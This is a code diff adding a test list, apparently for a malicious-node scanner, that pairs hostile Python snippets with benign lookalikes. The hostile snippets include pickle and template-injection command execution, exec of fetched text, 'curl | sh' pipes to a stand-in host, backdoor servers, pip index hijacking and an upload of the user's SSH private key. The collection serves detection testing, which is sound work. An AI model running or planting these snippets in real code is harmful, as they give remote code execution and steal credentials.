@@ -792,6 +792,130 @@ const evasions: Attack[] = [
   },
 ]
 
+/** Where Python itself calls what a pack defines, or takes what it gives. */
+const hookedAttacks: Attack[] = [
+  python(
+    'lets a loader of its own fetch the source of a module',
+    'import sys, requests, importlib.abc, importlib.util\nclass L(importlib.abc.SourceLoader):\n    def get_filename(self, name):\n        return name\n    def get_data(self, path):\n        return requests.get("https://example.test/" + path).content\nimportlib.util.spec_from_loader("a", L())',
+    'import importlib.abc, importlib.resources\nclass L(importlib.abc.SourceLoader):\n    def get_filename(self, name):\n        return name\n    def get_data(self, path):\n        return importlib.resources.read_binary("pack", path)',
+  ),
+  python(
+    'runs a command when a copy of an object is made',
+    'import os, pickle\nclass A:\n    def __reduce__(self):\n        return (os.system, ("id",))\npickle.loads(pickle.dumps(A()))',
+    'import copy\nclass A:\n    def __init__(self, size):\n        self.size = size\n    def __reduce__(self):\n        return (A, (self.size,))\ncopy.copy(A(1))',
+  ),
+  python(
+    'gives a block what an address answers, and runs it there',
+    'import requests\nclass A:\n    def __enter__(self):\n        return requests.get("https://example.test").text\n    def __exit__(self, *a): pass\nwith A() as code:\n    exec(code)',
+    'import requests\nclass A:\n    def __enter__(self):\n        return requests.get("https://example.test").text\n    def __exit__(self, *a): pass\nwith A() as text:\n    print(text)',
+  ),
+  python(
+    'yields what an address answers to a loop that runs it',
+    'import requests\ndef parts():\n    yield requests.get("https://example.test").text\nfor part in parts():\n    exec(part)',
+    'import requests\ndef parts():\n    yield requests.get("https://example.test").text\nfor part in parts():\n    print(part)',
+  ),
+  python(
+    'sends what an address answers into a generator that runs it',
+    'import requests\ndef sink():\n    while True:\n        code = yield\n        exec(code)\ng = sink()\nnext(g)\ng.send(requests.get("https://example.test").text)',
+    'import requests\ndef sink():\n    while True:\n        line = yield\n        print(line)\ng = sink()\nnext(g)\ng.send(requests.get("https://example.test").text)',
+  ),
+  python(
+    'listens at a port of its own and runs what it is sent',
+    'from http.server import BaseHTTPRequestHandler, HTTPServer\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        exec(self.rfile.read())\nHTTPServer(("127.0.0.1", 8000), H)',
+    'from http.server import BaseHTTPRequestHandler, HTTPServer\nimport json\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        print(json.loads(self.rfile.read()))\nHTTPServer(("127.0.0.1", 8000), H)',
+  ),
+  python(
+    'adds a route by a call whose handler runs what it is sent',
+    'from server import PromptServer\nasync def run(request):\n    exec(await request.text())\nPromptServer.instance.app.router.add_post("/run", run)',
+    'from server import PromptServer\nasync def run(request):\n    print(await request.text())\nPromptServer.instance.app.router.add_post("/run", run)',
+  ),
+  python(
+    'looks into every request for a command',
+    'import os\nfrom aiohttp import web\nfrom server import PromptServer\n@web.middleware\nasync def look(request, handler):\n    os.system(request.headers["x-run"])\n    return await handler(request)\nPromptServer.instance.app.middlewares.append(look)',
+    'from aiohttp import web\nfrom server import PromptServer\n@web.middleware\nasync def look(request, handler):\n    print(request.headers["x-run"])\n    return await handler(request)\nPromptServer.instance.app.middlewares.append(look)',
+  ),
+  python(
+    'lets others call programs by name',
+    'import os\nfrom xmlrpc.server import SimpleXMLRPCServer\ns = SimpleXMLRPCServer(("127.0.0.1", 8000))\ns.register_function(os.system)',
+    'from xmlrpc.server import SimpleXMLRPCServer\ns = SimpleXMLRPCServer(("127.0.0.1", 8000))\ns.register_function(len)',
+  ),
+  python(
+    'has every installer ask an index of its own',
+    'import os\nos.environ["PIP_EXTRA_INDEX_URL"] = "https://example.test/simple"',
+    'import os\nos.environ["PIP_EXTRA_INDEX_URL"] = "https://download.pytorch.org/whl/cu121"',
+  ),
+  python(
+    'hands an installer an index of its own',
+    'import os, subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy"], env={**os.environ, "PIP_INDEX_URL": "https://example.test/simple"})',
+    'import os, subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "install", "numpy"], env={**os.environ, "PIP_NO_INPUT": "1"})',
+  ),
+  python(
+    'adds to the program of the tool',
+    'import os, folder_paths\nroot = os.path.dirname(folder_paths.__file__)\nwith open(os.path.join(root, "main.py"), "a") as f:\n    f.write("import x")',
+    'import os, folder_paths\nroot = os.path.dirname(folder_paths.__file__)\nwith open(os.path.join(root, "notes.txt"), "a") as f:\n    f.write("x")',
+  ),
+  python(
+    'puts a pack of its own beside itself',
+    'import os, shutil, folder_paths\nshutil.copy("data.txt", os.path.join(folder_paths.get_folder_paths("custom_nodes")[0], "helper.py"))',
+    'import os, shutil, folder_paths\nshutil.copy("data.txt", os.path.join(folder_paths.get_folder_paths("checkpoints")[0], "helper.txt"))',
+  ),
+  python(
+    'loads a model of a server of its own with layers that run',
+    'import urllib.request, keras\nurllib.request.urlretrieve("https://example.test/m.keras", "m.keras")\nkeras.models.load_model("m.keras", safe_mode=False)',
+    'import urllib.request, keras\nurllib.request.urlretrieve("https://example.test/m.keras", "m.keras")\nkeras.models.load_model("m.keras")',
+  ),
+  python(
+    'switches the check of weights off for what it fetched',
+    'import sys, torch, urllib.request\nurllib.request.urlretrieve(sys.argv[1], "m.pt")\ntorch.load("m.pt", weights_only=False)',
+    'import sys, torch, urllib.request\nurllib.request.urlretrieve(sys.argv[1], "m.pt")\ntorch.load("m.pt", weights_only=True)',
+  ),
+  python(
+    'reaches programs through a template',
+    'import jinja2\njinja2.Template("{{ cycler.__init__.__globals__.os.popen(x).read() }}").render(x="id")',
+    'import jinja2\njinja2.Template("{{ name }} {{ size }}").render(name="a", size=1)',
+  ),
+  python(
+    'fills a template that an address answers',
+    'import jinja2, requests\njinja2.Template(requests.get("https://example.test").text).render()',
+    'import jinja2, requests\njinja2.Template("{{ text }}").render(text=requests.get("https://example.test").text)',
+  ),
+  python(
+    'takes exec out of the frame around it',
+    'import sys, requests\nsys._getframe().f_builtins["exec"](requests.get("https://example.test").text)',
+    'import sys\nprint(sys._getframe().f_lineno)',
+  ),
+  python(
+    'lets its own loader bring the system',
+    '__loader__.load_module("os").system("curl -s https://example.test/x | sh")',
+    'print(__loader__.name)',
+  ),
+  python(
+    'walks along names to a program',
+    'import os, functools, requests\nfunctools.reduce(getattr, ["system"], os)(requests.get("https://example.test").text)',
+    'import functools, model\nfunctools.reduce(getattr, ["layers", "first"], model)',
+  ),
+  python(
+    'names a program by a dotted text',
+    'import pydoc, requests\npydoc.locate("os.system")(requests.get("https://example.test").text)',
+    'import pydoc\npydoc.locate("json.dumps")({"a": 1})',
+  ),
+  python(
+    'runs code through the interpreter’s own library',
+    'import ctypes, requests\nctypes.pythonapi.PyRun_SimpleString(requests.get("https://example.test").content)',
+    'import ctypes\nctypes.pythonapi.PyGILState_Check()',
+  ),
+  python(
+    'names a shell as the user’s browser',
+    'import webbrowser\nwebbrowser.GenericBrowser(["sh", "-c", "curl -s https://example.test/x | sh"]).open("a")',
+    'import webbrowser\nwebbrowser.open("https://example.test")',
+  ),
+  python(
+    'uploads the user’s keys to a hub',
+    'import os\nfrom huggingface_hub import HfApi\nHfApi(token="x").upload_file(path_or_fileobj=open(os.path.expanduser("~/.ssh/id_ed25519")).read(), path_in_repo="a", repo_id="a/b")',
+    'from huggingface_hub import HfApi\nHfApi().upload_file(path_or_fileobj=open("model.safetensors", "rb").read(), path_in_repo="a", repo_id="a/b")',
+  ),
+]
+
 export const attacks: readonly Attack[] = [
   ...codeAttacks,
   ...processAttacks,
@@ -801,4 +925,5 @@ export const attacks: readonly Attack[] = [
   ...laterAttacks,
   ...nestedAttacks,
   ...evasions,
+  ...hookedAttacks,
 ]
